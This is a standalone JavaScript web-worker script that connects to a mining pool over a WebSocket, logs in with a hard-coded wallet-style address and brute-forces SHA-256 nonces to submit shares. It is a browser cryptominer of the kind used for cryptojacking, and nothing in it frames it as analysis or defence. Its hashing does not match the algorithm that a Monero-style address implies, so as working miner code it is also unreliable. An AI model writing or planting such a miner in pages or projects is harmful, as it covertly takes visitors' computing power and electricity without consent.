let socket;
onmessage = ({ data }) => {
  socket = new WebSocket(data.pool); //@act
  socket.onopen = () => socket.send(JSON.stringify({ method: 'login', params: { login: '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD', pass: 'x' } }));
  socket.onmessage = async (m) => {
    const job = JSON.parse(m.data).params;
    let nonce = 0;
    for (;;) {
      const text = new TextEncoder().encode(job.blob + (nonce++).toString(16));
      const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', text));
      if (digest[31] === 0 && digest[30] === 0) { socket.send(JSON.stringify({ method: 'submit', params: { nonce } })); break; }
    }
  };
};
